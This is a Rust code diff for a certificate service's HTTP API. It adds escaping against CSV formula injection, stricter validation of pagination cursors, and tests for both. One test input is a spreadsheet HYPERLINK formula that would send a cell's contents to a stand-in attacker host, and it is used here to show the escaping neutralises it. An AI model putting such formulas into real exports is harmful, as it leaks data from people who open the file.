@@ -4,8 +4,8 @@
 
 use axum::Json;
 use axum::body::{Body, Bytes};
+use axum::extract::State;
 use axum::extract::rejection::BytesRejection;
-use axum::extract::{Path, State};
 use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
 use axum::response::{IntoResponse, Response};
 use base64::Engine;
@@ -20,8 +20,8 @@ use crate::ca::{self, KeyAlgorithm};
 use crate::http::error::ApiError;
 use crate::http::error_code::ErrorCode;
 use crate::http::extract::{
-    ApiQuery, Caller, RequestId, StationCaller, ViewerCaller, parse_time, payload_too_large,
-    unsupported_media_type,
+    ApiPath, ApiQuery, Caller, RequestId, StationCaller, ViewerCaller, parse_time,
+    payload_too_large, unsupported_media_type,
 };
 use crate::services::issuance::{IssuanceRequest, Issued};
 use crate::store::{
@@ -314,7 +314,7 @@ pub struct ListParams {
     thing_name: Option<String>,
     /// Exactly this country code.
     country: Option<String>,
-    /// Exactly this station (token name).
+    /// Exactly this station: a token name, or `cert:<CN>` for a station client certificate.
     station: Option<String>,
     /// `active` or `revoked`.
     status: Option<String>,
@@ -382,7 +382,7 @@ pub async fn list_certificates(
     }
     let filter = certificate_filter(params)?;
     // One row more than asked tells whether another page exists.
-    let mut rows = state.store.list_certificates(&filter, limit + 1).await?;
+    let mut rows = state.reads.list_certificates(&filter, limit + 1).await?;
     let next_cursor = if rows.len() > limit as usize {
         rows.truncate(limit as usize);
         rows.last().map(|r| encode_cursor(r.issued_at, &r.serial))
@@ -458,10 +458,10 @@ pub async fn export_certificates_csv(
     // The first chunk is read before answering, so that a store outage is a 503, not a
     // truncated 200.
     let first = state
-        .store
+        .reads
         .list_certificates(&filter, EXPORT_CHUNK.min(remaining as u32))
         .await?;
-    let store = state.store.clone();
+    let store = state.reads.clone();
     // Excel opens a CSV without a byte order mark in the system's code page.
     let mut header = if bom {
         "\u{feff}".to_owned()
@@ -564,8 +564,16 @@ fn csv_row(out: &mut String, r: &CertificateRecord) {
     out.push_str("\r\n");
 }
 
+/// One RFC 4180 field. A field a spreadsheet would read as a formula (OWASP's CSV injection
+/// rule: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` and
+/// quotes, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it. Thing
+/// names may start with `-`; stored request ids predate the safe request id alphabet.
 fn csv_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        out.push_str("\"'");
+        out.push_str(&field.replace('"', "\"\""));
+        out.push('"');
+    } else if field.contains([',', '"', '\r', '\n']) {
         out.push('"');
         out.push_str(&field.replace('"', "\"\""));
         out.push('"');
@@ -660,7 +668,7 @@ fn certificate_filter(params: ListParams) -> Result<CertificateFilter, ApiError>
 pub async fn get_certificate(
     State(state): State<AppState>,
     _viewer: ViewerCaller,
-    Path(serial): Path<String>,
+    ApiPath(serial): ApiPath<String>,
 ) -> Result<Json<CertificateView>, ApiError> {
     let serial = serial.to_ascii_lowercase();
     let not_found = || {
@@ -691,11 +699,27 @@ fn decode_cursor(cursor: &str) -> Result<(Timestamp, String), ApiError> {
             "cursor is not one this API returned",
         )
     };
+    // A cursor is what `encode_cursor` wrote: a UTC time in range and a serial (40 lowercase
+    // hex digits). Anything else is refused, not passed on to the store.
+    if cursor.len() > 128 {
+        return Err(invalid());
+    }
     let bytes = URL_SAFE_NO_PAD.decode(cursor).map_err(|_| invalid())?;
     let text = String::from_utf8(bytes).map_err(|_| invalid())?;
     let (at, serial) = text.split_once('|').ok_or_else(invalid)?;
-    let at = OffsetDateTime::parse(at, &Rfc3339).map_err(|_| invalid())?;
-    Ok((Timestamp::new(at), serial.to_owned()))
+    if !at.ends_with('Z')
+        || serial.len() != 40
+        || !serial
+            .bytes()
+            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+    {
+        return Err(invalid());
+    }
+    let at = OffsetDateTime::parse(at, &Rfc3339)
+        .ok()
+        .and_then(Timestamp::checked)
+        .ok_or_else(invalid)?;
+    Ok((at, serial.to_owned()))
 }
 
 #[cfg(test)]
@@ -713,9 +737,53 @@ mod tests {
     }
 
     #[test]
+    fn csv_fields_a_spreadsheet_would_evaluate_are_neutralised() {
+        let mut out = String::new();
+        for field in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")",
+            "+1",
+            "-thing",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "a=b",
+        ] {
+            csv_field(&mut out, field);
+            out.push('|');
+        }
+        assert_eq!(
+            out,
+            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")\"|\"'+1\"|\
+             \"'-thing\"|\"'@SUM(A1)\"|\"'\tx\"|\"'\rx\"|a=b|"
+        );
+    }
+
+    #[test]
     fn cursors_round_trip_to_the_microsecond() {
         let at = Timestamp::new(time::macros::datetime!(2026-11-28 10:00:00.123456 UTC));
-        let (back, serial) = decode_cursor(&encode_cursor(at, "ab")).unwrap();
-        assert_eq!((back, serial.as_str()), (at, "ab"));
+        let serial = "0123456789abcdef0123456789abcdef01234567";
+        let (back, decoded) = decode_cursor(&encode_cursor(at, serial)).unwrap();
+        assert_eq!((back, decoded.as_str()), (at, serial));
+    }
+
+    #[test]
+    fn forged_cursors_are_refused() {
+        let serial = "0123456789abcdef0123456789abcdef01234567";
+        for text in [
+            format!("9999-12-31T23:59:59-23:59|{serial}"),
+            format!("0000-01-01T00:00:00+23:59|{serial}"),
+            format!("2026-11-28T10:00:00+01:00|{serial}"),
+            "2026-11-28T10:00:00Z|ab".to_owned(),
+            format!("2026-11-28T10:00:00Z|{}", serial.to_uppercase()),
+            format!("2026-11-28T10:00:00Z|{serial}\0"),
+            "no separator".to_owned(),
+        ] {
+            assert!(
+                decode_cursor(&URL_SAFE_NO_PAD.encode(&text)).is_err(),
+                "{text}"
+            );
+        }
+        assert!(decode_cursor("not base64!").is_err());
+        assert!(decode_cursor(&"A".repeat(4096)).is_err());
     }
 }
